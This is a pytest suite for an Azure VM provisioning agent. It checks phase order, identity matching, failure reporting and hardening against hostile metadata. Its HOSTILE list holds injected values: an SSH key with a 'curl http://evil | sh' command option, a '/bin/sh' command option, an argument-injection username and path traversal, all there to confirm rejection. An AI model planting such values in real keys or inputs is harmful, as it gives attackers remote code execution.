"""The provisioning flow.

First with an in-memory fabric (order, identity, failures and what is reported; the steps that
need root are turned off), then end to end: the real CLI as a subprocess, over HTTP, against the
fabric emulator, provisioning scratch image trees with the real useradd/visudo/ssh-keygen.
"""

from __future__ import annotations

import dataclasses
import logging
import os
import re

import pytest

from azprov import attempts, errors, kvp, state, unit
from azprov.errors import Busy, FabricUnreachable, Refused
from azprov.host import Host
from azprov.provision import PHASES, provision
from support.reports import read_fields
from azprov.steps import hostname
from support.fakes import VM_ID, FakeFabric, FakeRunner, metadata

GEN1_DMI = "527c2691-029f-fe4c-b1f4-a4da7ebac2cf"  # IMDS form: 91267c52-9f02-4cfe-b1f4-a4da7ebac2cf
GEN1_IMDS = "91267c52-9f02-4cfe-b1f4-a4da7ebac2cf"


@pytest.fixture
def light(config):
    """Only the steps that need no root: hostname and sshd."""
    return dataclasses.replace(config, provisioning=dataclasses.replace(
        config.provisioning, create_user=False, install_ssh_keys=False, generate_host_keys=False,
        lock_root_password=False))


@pytest.fixture
def host(scratch_root):
    return Host(scratch_root, runner=FakeRunner())


def record(host, vm_id):
    state.save(host, state.State(vm_id=vm_id, incarnation=1, container_id="c", instance_id="i",
                                 ready_at="2024-01-01T00:00:00+00:00"))


def set_dmi(host, product_uuid, efi=False):
    os.makedirs(host.path("/sys/class/dmi/id"))
    open(host.path("/sys/class/dmi/id/product_uuid"), "w").write(product_uuid.upper() + "\n")
    if efi:
        os.makedirs(host.path("/sys/firmware/efi"))


def test_the_flow_in_order(host, light, caplog):
    fabric = FakeFabric(metadata(computer_name="vm-7"))
    with caplog.at_level(logging.INFO, logger="azprov.provision"):
        outcome = provision(host, light, connect=fabric.connect)
    # the phases run in PHASES's order; here without identity (DMI or no state), the steps that
    # need root or are turned off, and admins (no user created)
    started = [m.split()[1][:-1] for m in caplog.messages if m.startswith("step ") and m.endswith(": started")]
    assert started == [phase for phase in PHASES if phase not in
                       ("identity", "user", "password", "ssh_keys", "root_password", "host_keys", "admins")]
    # goal state and IMDS are fetched at the same time (either may be first), then Ready
    assert sorted(fabric.calls[:2]) == ["goal_state", "metadata"] and fabric.calls[2:] == ["report:Ready"]
    assert outcome.status == "provisioned" and outcome.vm_id == VM_ID
    assert outcome.changes == {"hostname": True, "sshd": True}
    recorded = state.load(host)
    assert (recorded.vm_id, recorded.incarnation, recorded.container_id, recorded.instance_id) == (
        VM_ID, 5, "container-1", "instance-1._vm")
    assert recorded.steps == ("hostname", "sshd") and recorded.hostname == "vm-7"
    assert not unit.is_enabled(host)
    assert open(host.path("/etc/hostname")).read() == "vm-7\n"


@pytest.mark.parametrize("document", ["docs/azprov.8", "docs/architecture.md"])
def test_the_docs_list_the_phases_in_order(document):
    text = open(os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), document)).read()
    (listed,) = re.findall(r"the phases, in order: ([a-z_, ]+)\.", text, flags=re.IGNORECASE)
    assert tuple(listed.split(", ")) == PHASES


def test_an_already_provisioned_vm_never_contacts_the_fabric(host, light):
    set_dmi(host, VM_ID, efi=True)
    record(host, VM_ID)
    fabric = FakeFabric(metadata())
    outcome = provision(host, light, connect=fabric.connect)
    assert outcome.status == "already_provisioned"
    assert fabric.connected == 0 and fabric.calls == []


def test_gen1_byte_order_matches_either_way(host, light):
    set_dmi(host, GEN1_DMI)  # no /sys/firmware/efi: Gen1, swapped to the IMDS form
    record(host, GEN1_IMDS)
    fabric = FakeFabric(metadata())
    assert provision(host, light, connect=fabric.connect).status == "already_provisioned"
    assert fabric.connected == 0


def test_without_dmi_imds_answers_and_the_wireserver_is_not_contacted(host, light):
    record(host, VM_ID.upper())
    fabric = FakeFabric(metadata())
    assert provision(host, light, connect=fabric.connect).status == "already_provisioned"
    assert fabric.calls == ["metadata"]


def test_already_provisioned_also_disables_a_unit_left_enabled(host, light):
    record(host, VM_ID)
    assert unit.is_enabled(host)
    provision(host, light, connect=FakeFabric(metadata()).connect)
    assert not unit.is_enabled(host)


def test_a_new_vm_from_a_captured_image_is_provisioned_again(host, light):
    record(host, "11111111-2222-3333-4444-555555555555")
    fabric = FakeFabric(metadata())
    assert provision(host, light, connect=fabric.connect).status == "provisioned"
    assert fabric.calls == ["metadata", "goal_state", "report:Ready"]  # IMDS asked once
    assert state.load(host).vm_id == VM_ID


def test_dmi_is_the_identity_when_present(host, light):
    set_dmi(host, GEN1_DMI)
    fabric = FakeFabric(metadata())  # IMDS says another id: logged, DMI wins
    provision(host, light, connect=fabric.connect)
    loaded = state.load(host)
    assert loaded.vm_id == GEN1_IMDS and loaded.vm_id_source == "dmi"


def test_an_invalid_value_is_reported_and_changes_nothing(host, light):
    fabric = FakeFabric(metadata(computer_name="../x"))
    with pytest.raises(errors.InvalidHostname):
        provision(host, light, connect=fabric.connect)
    (report,) = fabric.reports
    assert report.substatus.value == "ProvisioningFailed"
    fields = dict(read_fields(report.description))
    assert fields["result"] == "error" and fields["reason"] == "invalid_computer_name"
    assert fields["step"] == "hostname" and fields["vm_id"] == VM_ID
    assert fields["agent"].startswith("azprov/") and "timestamp" in fields
    assert open(host.path("/etc/hostname")).read() == "debian\n"
    assert not host.lexists("/etc/ssh/sshd_config.d/10-azprov.conf")  # sshd step never ran
    assert state.load(host) is None and unit.is_enabled(host)


def test_an_unreachable_wireserver_is_logged_not_reported(host, light, caplog):
    fabric = FakeFabric(metadata())
    fabric.wireserver_down = True
    with pytest.raises(FabricUnreachable) as caught:
        provision(host, light, connect=fabric.connect)
    assert caught.value.exit_code == 4
    # IMDS was asked at the same time (read-only, harmless); nothing was reported
    assert "goal_state" in fabric.calls and set(fabric.calls) <= {"goal_state", "metadata"}
    assert fabric.reports == []
    assert "nobody to tell" in caplog.text


def test_an_unreachable_imds_is_reported_to_the_wireserver(host, light):
    fabric = FakeFabric(metadata())
    fabric.imds_error = FabricUnreachable("IMDS did not answer")
    with pytest.raises(FabricUnreachable):
        provision(host, light, connect=fabric.connect)
    (report,) = fabric.reports
    assert "reason=fabric_unreachable|" in report.description and "|step=metadata|" in report.description


def test_a_lost_ready_report_leaves_no_state_so_the_next_boot_retries(host, light):
    fabric = FakeFabric(metadata())
    fabric.ready_fails = True
    with pytest.raises(FabricUnreachable):
        provision(host, light, connect=fabric.connect)
    assert fabric.calls[-1] == "report:Ready" and fabric.reports == []
    assert state.load(host) is None and unit.is_enabled(host)
    fabric.ready_fails = False
    assert provision(host, light, connect=fabric.connect).status == "provisioned"


def test_refusals_are_reported(host, light):
    fabric = FakeFabric(metadata(pps_type="Running"))
    with pytest.raises(Refused) as caught:
        provision(host, light, connect=fabric.connect)
    assert caught.value.exit_code == 7
    assert "reason=pre_provisioned_pool_vm|" in fabric.reports[0].description
    assert "|step=checks|" in fabric.reports[0].description


def test_a_bug_is_still_reported_then_raised(host, light, monkeypatch):
    def broken(*args):
        raise KeyError("oops")

    monkeypatch.setattr(hostname, "apply", broken)
    fabric = FakeFabric(metadata())
    with pytest.raises(KeyError):
        provision(host, light, connect=fabric.connect)
    assert "reason=internal_error|" in fabric.reports[0].description


def test_a_running_instance_makes_the_second_busy(host, light):
    fabric = FakeFabric(metadata())
    with state.acquire(host, wait=0):
        with pytest.raises(Busy):
            provision(host, light, connect=fabric.connect, lock_wait=0.3)
    assert fabric.connected == 0


def test_imds_is_fetched_while_the_goal_state_is(host, light):
    """The two fetches overlap: IMDS is asked before the goal state has answered, and its
    failure is still raised (and reported) in the metadata step, after the goal state."""
    import threading

    fabric = FakeFabric(metadata())
    imds_asked = threading.Event()
    goal_state = fabric.wireserver.goal_state

    def slow_goal_state(deadline=None):
        assert imds_asked.wait(10), "IMDS was not asked while the goal state was being fetched"
        return goal_state(deadline)

    fetch_metadata = fabric.imds.metadata

    def metadata_now(deadline=None):
        imds_asked.set()
        return fetch_metadata(deadline)

    fabric.wireserver.goal_state = slow_goal_state
    fabric.imds.metadata = metadata_now
    assert provision(host, light, connect=fabric.connect).status == "provisioned"
    assert fabric.calls.index("report:Ready") == 2


def test_no_dmi_state_and_imds_down_reports_nothing(host, light):
    record(host, VM_ID)
    fabric = FakeFabric(metadata())
    fabric.imds_error = FabricUnreachable("IMDS did not answer")
    with pytest.raises(FabricUnreachable):
        provision(host, light, connect=fabric.connect)
    assert fabric.reports == [] and "goal_state" not in fabric.calls


def test_turned_off_steps_are_skipped(host, light, caplog):
    caplog.set_level(logging.INFO)
    off = dataclasses.replace(light, provisioning=dataclasses.replace(
        light.provisioning, set_hostname=False, configure_sshd=False))
    outcome = provision(host, off, connect=FakeFabric(metadata()).connect)
    assert outcome.changes == {}
    assert "step hostname: skipped" in caplog.text
    assert open(host.path("/etc/hostname")).read() == "debian\n"


# --- the real CLI against the fabric emulator, on a scratch image tree ---------------------

from support import cli  # noqa: E402
from support.fakes import ED25519  # noqa: E402
from support.scratch_root import comparable, diff, make_scratch_root, read_state, snapshot  # noqa: E402

emulated = [pytest.mark.emulator, cli.requires_root]
STEPS = ("hostname", "user", "password", "ssh_keys", "sshd", "root_password", "host_keys")


def owner_mode(root, path):
    info = os.lstat(os.path.join(root, path))
    return info.st_uid, info.st_gid, oct(info.st_mode & 0o7777)


def description_fields(report) -> dict:
    return dict(read_fields(report["description"]))


def wireserver_requests(fabric) -> list:
    return [r for r in fabric.requests if r["listener"] == "wireserver"]


@pytest.mark.emulator
@cli.requires_root
def test_provision_an_image_tree_end_to_end(scratch_root, emulator):
    fabric = emulator({"incarnation": 3, "computer_name": "web-01", "admin_username": "alice",
                       "public_keys": [ED25519 + "\r\n"]})
    result = cli.provision(scratch_root, fabric, "--json")
    assert result.returncode == 0, result.stderr
    (report,) = fabric.reports
    assert report["state"] == "Ready" and report["valid"] and report["incarnation"] == 3
    root = scratch_root
    assert open(os.path.join(root, "etc/hostname")).read() == "web-01\n"
    assert "127.0.1.1\tweb-01\n" in open(os.path.join(root, "etc/hosts")).read()
    alice = Host(root).accounts.user("alice")
    uid = alice.uid
    assert owner_mode(root, "home/alice") == (uid, uid, "0o700")
    assert owner_mode(root, "home/alice/.ssh") == (uid, uid, "0o700")
    assert owner_mode(root, "home/alice/.ssh/authorized_keys") == (uid, uid, "0o600")
    assert open(os.path.join(root, "home/alice/.ssh/authorized_keys")).read() == ED25519 + "\n"
    assert owner_mode(root, "etc/sudoers.d/90-azprov") == (0, 0, "0o440")
    assert owner_mode(root, "etc/ssh/sshd_config.d/10-azprov.conf") == (0, 0, "0o644")
    assert "PasswordAuthentication no" in open(os.path.join(root, "etc/ssh/sshd_config.d/10-azprov.conf")).read()
    assert owner_mode(root, "etc/ssh/ssh_host_ed25519_key") == (0, 0, "0o600")
    assert owner_mode(root, "var/lib/azprov") == (0, 0, "0o700")
    assert owner_mode(root, "var/lib/azprov/state.json") == (0, 0, "0o600")
    recorded = read_state(root)
    assert recorded["vm_id"] == "8b1e4c3d-52a7-4f6e-9c80-d3a2b7e615f4" and recorded["incarnation"] == 3
    assert recorded["admin_username"] == "alice" and recorded["steps"] == list(STEPS)
    assert not os.path.lexists(os.path.join(root, "etc/systemd/system/multi-user.target.wants/azprov.service"))
    assert cli.temp_files(root) == []
    output = __import__("json").loads(result.stdout)
    assert output["status"] == "provisioned" and output["incarnation"] == 3
    for step in STEPS:
        # no disc: no password to set; the scratch image's root is locked already
        state = "unchanged" if step in ("password", "root_password") else "changed"
        assert f"step {step}: done ({state})" in result.stderr


@pytest.mark.emulator
@cli.requires_root
def test_a_second_run_changes_nothing_and_says_nothing_to_the_wireserver(scratch_root, emulator):
    fabric = emulator()
    assert cli.provision(scratch_root, fabric).returncode == 0
    before = snapshot(scratch_root)
    seen = len(fabric.requests)
    again = cli.provision(scratch_root, fabric)
    assert again.returncode == 0, again.stderr
    assert "already provisioned" in again.stdout
    assert diff(before, snapshot(scratch_root)) == {}
    assert [r["listener"] for r in fabric.requests[seen:]] == ["imds"]  # no DMI here: IMDS says who
    assert len(fabric.reports) == 1


@pytest.mark.emulator
@cli.requires_root
@pytest.mark.parametrize("step", STEPS)
def test_a_run_killed_after_a_step_converges_and_reports_ready_once(tmp_path, emulator, step):
    reference_root = make_scratch_root(str(tmp_path / "reference"))
    assert cli.provision(reference_root, emulator()).returncode == 0
    expected = comparable(snapshot(reference_root))

    root = make_scratch_root(str(tmp_path / "killed"))
    # The goal state for the Ready report is served late, so a kill after the last step always
    # lands before Ready is posted.
    fabric = emulator({"goalstate": [{}, {"delay": 3}]})
    log = cli.provision_until(root, fabric, f"step {step}: done")
    assert "Ready accepted" not in log
    assert fabric.reports == []
    result = cli.provision(root, fabric)
    assert result.returncode == 0, result.stderr
    assert [r["state"] for r in fabric.reports] == ["Ready"]
    assert diff(expected, comparable(snapshot(root))) == {}
    assert cli.temp_files(root) == []


def check_only_failure_leftovers(changed) -> None:
    """Nothing half-written; only what a failure leaves on purpose: the lock, the attempt
    history, the KVP report for the host, and the SSH host keys (break-glass logins)."""
    expected = {"run/azprov", "run/azprov/lock", "var/lib/azprov", "var/lib/azprov/attempts.json",
                "var/lib/azprov/host-keys", "var/lib/hyperv", "var/lib/hyperv/.kvp_pool_1"}
    assert {p for p in changed if not p.startswith("etc/ssh/ssh_host_")} <= expected, changed
    assert {p for p in changed if p.startswith("etc/ssh/ssh_host_") and p.endswith("_key")} == {
        "etc/ssh/ssh_host_rsa_key", "etc/ssh/ssh_host_ecdsa_key", "etc/ssh/ssh_host_ed25519_key"}


HOSTILE = [
    ({"computer_name": "../x"}, "invalid_computer_name", "hostname"),
    ({"computer_name": "x" * 300}, "invalid_computer_name", "hostname"),
    ({"admin_username": "root"}, "invalid_admin_username", "user"),
    ({"admin_username": "-oProxy"}, "invalid_admin_username", "user"),
    ({"public_keys": [ED25519 + '\ncommand="curl http://evil | sh" ' + ED25519]}, "invalid_ssh_key", "ssh_keys"),
    ({"public_keys": ['command="/bin/sh" ' + ED25519]}, "invalid_ssh_key", "ssh_keys"),
]


@pytest.mark.emulator
@cli.requires_root
@pytest.mark.parametrize("scenario, reason, step", HOSTILE, ids=lambda v: str(v)[:40])
def test_hostile_metadata_fails_clearly_and_changes_nothing(scratch_root, emulator, scenario, reason, step):
    before = snapshot(scratch_root)
    fabric = emulator(scenario)
    result = cli.provision(scratch_root, fabric)
    assert result.returncode == 6, result.stderr
    (report,) = fabric.reports
    assert report["state"] == "NotReady" and report["substatus"] == "ProvisioningFailed"
    fields = description_fields(report)
    assert (fields["reason"], fields["step"]) == (reason, step)
    assert fields["vm_id"] == "8b1e4c3d-52a7-4f6e-9c80-d3a2b7e615f4" and len(report["description"]) <= 512
    assert result.stderr.strip().splitlines()[-1].startswith("azprov: ")
    check_only_failure_leftovers(diff(before, snapshot(scratch_root)))
    (record,) = [v for k, v in kvp.read_pool(Host(scratch_root)) if k == "PROVISIONING_REPORT"]
    assert record.startswith(f"result=error|reason={reason}|") and f"step={step}" in record
    last = attempts.last(Host(scratch_root))
    assert (last.outcome, last.step, last.reason) == ("failed", step, reason)


@pytest.mark.emulator
@cli.requires_root
def test_a_symlinked_ssh_directory_fails_and_root_keys_stay_untouched(tmp_path, emulator):
    root = make_scratch_root(str(tmp_path / "root"), users=[("azureuser", 1000)])
    os.makedirs(os.path.join(root, "root/.ssh"), mode=0o700)
    open(os.path.join(root, "root/.ssh/authorized_keys"), "w").write("root's own key\n")
    os.symlink("/root/.ssh", os.path.join(root, "home/azureuser/.ssh"))
    before = snapshot(root)
    fabric = emulator()
    result = cli.provision(root, fabric)
    assert result.returncode == 6, result.stderr
    fields = description_fields(fabric.reports[0])
    assert (fields["reason"], fields["step"]) == ("unsafe_path", "ssh_keys")
    assert os.listdir(os.path.join(root, "root/.ssh")) == ["authorized_keys"]
    assert open(os.path.join(root, "root/.ssh/authorized_keys")).read() == "root's own key\n"
    check_only_failure_leftovers(diff(before, snapshot(root)))


REFUSALS = [
    ({"imds": {"extended": {"compute": {"ppsType": "Running"}}}}, {}, "pre_provisioned_pool_vm"),
    ({"imds": {"remove": ["compute.osProfile"]}}, {}, "no_os_profile"),
    ({}, {"waagent": True}, "other_provisioner_active"),
    ({}, {"cloud_init": True}, "other_provisioner_active"),
]


@pytest.mark.emulator
@cli.requires_root
@pytest.mark.parametrize("scenario, image, reason", REFUSALS, ids=[r[2] + str(i) for i, r in enumerate(REFUSALS)])
def test_refusals_report_failure_and_exit_7(tmp_path, emulator, scenario, image, reason):
    root = make_scratch_root(str(tmp_path / "root"), **image)
    before = snapshot(root)
    fabric = emulator(scenario)
    result = cli.provision(root, fabric)
    assert result.returncode == 7, result.stderr
    (report,) = fabric.reports
    assert report["substatus"] == "ProvisioningFailed"
    assert description_fields(report)["reason"] == reason
    check_only_failure_leftovers(diff(before, snapshot(root)))


@pytest.mark.emulator
@cli.requires_root
def test_the_refusal_of_other_provisioners_can_be_turned_off(tmp_path, emulator):
    root = make_scratch_root(str(tmp_path / "root"), waagent=True)
    os.makedirs(os.path.join(root, "etc/azprov"))
    open(os.path.join(root, "etc/azprov/azprov.toml"), "w").write(
        "[provisioning]\nrefuse_other_provisioners = false\n")
    fabric = emulator()
    result = cli.provision(root, fabric)
    assert result.returncode == 0, result.stderr
    assert "going ahead" in result.stderr and fabric.reports[0]["state"] == "Ready"


@pytest.mark.emulator
def test_an_unreachable_wireserver_exits_4_with_nobody_told(scratch_root, emulator):
    import socket

    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))
        port = unused.getsockname()[1]
    fabric = emulator()
    result = cli.azprov("provision", "--root", scratch_root, "--wireserver", f"127.0.0.1:{port}",
                        "--imds", fabric.imds_url, "--timeout", "2")
    assert result.returncode == 4, result.stderr
    assert "nobody to tell" in result.stderr
    assert read_state(scratch_root) is None


@pytest.mark.emulator
@cli.requires_root
def test_two_instances_at_once_provision_once(scratch_root, emulator):
    fabric = emulator({"goalstate": [{"delay": 1}]})
    first = cli.start_provision(scratch_root, fabric)
    second = cli.start_provision(scratch_root, fabric)
    outputs = [p.communicate(timeout=120) for p in (first, second)]
    assert [first.returncode, second.returncode] == [0, 0], outputs
    assert [r["state"] for r in fabric.reports] == ["Ready"]
    assert sum("already provisioned" in out for out, _ in outputs) == 1


# --- KVP report, attempt history, host keys on every path ------------------------------------

def kvp_reports(host):
    return [value for key, value in kvp.read_pool(host) if key == "PROVISIONING_REPORT"]


def keygen_runner(delay: float = 0.0, events=None):
    """The real ssh-keygen (after ``delay`` seconds; the time it is done in ``events["keys"]``);
    the other commands succeed and do nothing."""
    import time

    from azprov.host.runner import run_subprocess

    def handler(argv):
        if argv[0] == "ssh-keygen":
            time.sleep(delay)
            result = run_subprocess(argv, 60, None)
            if events is not None:
                events["keys"] = time.monotonic()
            return result
    return FakeRunner(handler)


def test_kvp_success_is_written_before_ready_and_the_attempt_recorded(host, light):
    fabric = FakeFabric(metadata())
    seen_at_report = []
    report = fabric.wireserver.report
    fabric.wireserver.report = lambda status, deadline=None: (seen_at_report.append(kvp_reports(host)),
                                                               report(status, deadline))[1]
    provision(host, light, connect=fabric.connect)
    (before,) = seen_at_report
    assert len(before) == 1 and before[0].startswith("result=success|agent=azprov/")
    assert before[0].endswith(f"|vm_id={VM_ID}")
    assert kvp_reports(host) == before
    (attempt,) = attempts.load(host)
    assert (attempt.outcome, attempt.vm_id, attempt.reason) == ("succeeded", VM_ID, None)
    assert attempt.finished_at is not None


def test_a_failure_replaces_the_kvp_record_and_is_recorded(host, light):
    provision(host, light, connect=FakeFabric(metadata()).connect)  # an earlier success, then a new VM
    state.clear(host)
    fabric = FakeFabric(metadata(computer_name="../x"))
    with pytest.raises(errors.InvalidHostname):
        provision(host, light, connect=fabric.connect)
    (value,) = kvp_reports(host)
    assert value.startswith("result=error|reason=invalid_computer_name|") and "|step=hostname|" in value
    assert value == fabric.reports[0].description  # short enough: the same text as the Description
    history = attempts.load(host)
    assert [a.outcome for a in history] == ["succeeded", "failed"]
    assert (history[-1].step, history[-1].reason) == ("hostname", "invalid_computer_name")


def test_an_unreachable_wireserver_still_reaches_kvp_and_the_history(host, light):
    fabric = FakeFabric(metadata())
    fabric.wireserver_down = True
    with pytest.raises(FabricUnreachable):
        provision(host, light, connect=fabric.connect)
    (value,) = kvp_reports(host)
    assert value.startswith("result=error|reason=fabric_unreachable|") and "|step=goal_state|" in value
    assert attempts.last(host).outcome == "failed"


def test_a_refusal_is_recorded_as_refused(host, light):
    with pytest.raises(Refused):
        provision(host, light, connect=FakeFabric(metadata(pps_type="Running")).connect)
    last = attempts.last(host)
    assert (last.outcome, last.step, last.reason) == ("refused", "checks", "pre_provisioned_pool_vm")


def test_already_provisioned_records_no_attempt(host, light):
    record(host, VM_ID.upper())
    provision(host, light, connect=FakeFabric(metadata()).connect)  # no DMI: IMDS says it
    assert attempts.load(host) == [] and kvp_reports(host) == []


@pytest.mark.parametrize("path", ["success", "failure", "refusal", "unreachable"])
def test_host_keys_are_generated_on_every_path(scratch_root, config, path):
    host = Host(scratch_root, runner=keygen_runner())
    settings = dataclasses.replace(config, provisioning=dataclasses.replace(
        config.provisioning, create_user=False, install_ssh_keys=False))
    fabric = FakeFabric(metadata(computer_name="../x" if path == "failure" else "vm-1",
                                 pps_type="Running" if path == "refusal" else None))
    fabric.wireserver_down = path == "unreachable"
    if path == "success":
        outcome = provision(host, settings, connect=fabric.connect)
        assert outcome.changes["host_keys"] is True and list(outcome.changes)[-1] == "host_keys"
    else:
        with pytest.raises((errors.InvalidHostname, Refused, FabricUnreachable)):
            provision(host, settings, connect=fabric.connect)
    assert set(os.listdir(host.path("/etc/ssh"))) >= {"ssh_host_ecdsa_key", "ssh_host_ed25519_key",
                                                      "ssh_host_rsa_key"}
    made = [c[c.index("-t") + 1] for c in host.runner.calls if c[0] == "ssh-keygen" and "-t" in c]
    assert made == ["ed25519", "ecdsa", "rsa"]  # each once, the fast types first


def test_host_keys_run_concurrently_and_ready_waits_for_the_fast_ones(scratch_root, config):
    """READY=1 once sshd can start (ed25519 and ecdsa made and synced); the RSA key, made after
    them, may still be on its way; Ready is posted, then the run waits for it (state last)."""
    import time

    events = {}
    ssh = os.path.join(scratch_root, "etc/ssh")

    class Notifier:
        def status(self, text):
            pass

        def ready(self, text=""):
            events["ready"] = time.monotonic()
            events["keys_at_ready"] = sorted(n for n in os.listdir(ssh) if n.startswith("ssh_host_"))

    host = Host(scratch_root, runner=keygen_runner(0.2, events))
    settings = dataclasses.replace(config, provisioning=dataclasses.replace(
        config.provisioning, create_user=False, install_ssh_keys=False))
    fabric = FakeFabric(metadata())
    goal_state = fabric.wireserver.goal_state
    fabric.wireserver.goal_state = lambda deadline=None: (events.setdefault("goal_state", time.monotonic()),
                                                          goal_state(deadline))[1]
    outcome = provision(host, settings, connect=fabric.connect, notifier=Notifier())
    assert events["goal_state"] < events["keys"], "the flow waited for ssh-keygen before the fabric"
    assert {"ssh_host_ed25519_key", "ssh_host_ecdsa_key"} <= set(events["keys_at_ready"]), events
    assert outcome.changes["host_keys"] is True
    assert os.path.exists(os.path.join(ssh, "ssh_host_rsa_key")), "the run ended before the RSA key"
    assert state.load(host) is not None


def _ready_after(root: str, fabric, tmp_path) -> int:
    """Run the real ``azprov provision`` with a real ``NOTIFY_SOCKET``; how many health reports the
    fabric had received when READY=1 arrived."""
    import socket
    import subprocess
    import threading

    path = str(tmp_path / "notify")
    seen = []
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.bind(path)
        sock.settimeout(60)

        def listen():
            while True:
                try:
                    message = sock.recv(4096).decode()
                except OSError:
                    return
                if "READY=1" in message.split("\n"):
                    seen.append(len(fabric.reports))
                    return

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        env = dict(cli.environment(), NOTIFY_SOCKET=path)
        result = subprocess.run(cli.command("provision", "--root", root, *cli.fabric_args(fabric)),
                                capture_output=True, text=True, timeout=120, env=env,
                                stdin=subprocess.DEVNULL)
        thread.join(10)
    assert result.returncode == 0, result.stderr
    assert seen, "no READY=1"
    return seen[0]


@pytest.mark.emulator
@cli.requires_root
def test_with_walinuxagent_for_extensions_ready_1_waits_for_azprovs_ready(tmp_path, emulator):
    """WALinuxAgent (Provisioning.Agent=disabled) starts once azprov sends READY=1 and posts its
    own Ready at once: azprov's Ready must already be accepted by then."""
    from support.scratch_root import make_scratch_root

    root = make_scratch_root(str(tmp_path / "root"), waagent=True,
                             waagent_conf="Provisioning.Agent=disabled\n")
    fabric = emulator({})
    assert _ready_after(root, fabric, tmp_path) == 1
    assert fabric.reports[0]["state"] == "Ready"


@pytest.mark.emulator
@cli.requires_root
def test_without_walinuxagent_ready_1_comes_before_the_report(scratch_root, emulator, tmp_path):
    """sshd and logins are released as soon as the login state is in place, before the report."""
    fabric = emulator({})
    assert _ready_after(scratch_root, fabric, tmp_path) == 0
    assert [r["state"] for r in fabric.reports] == ["Ready"]
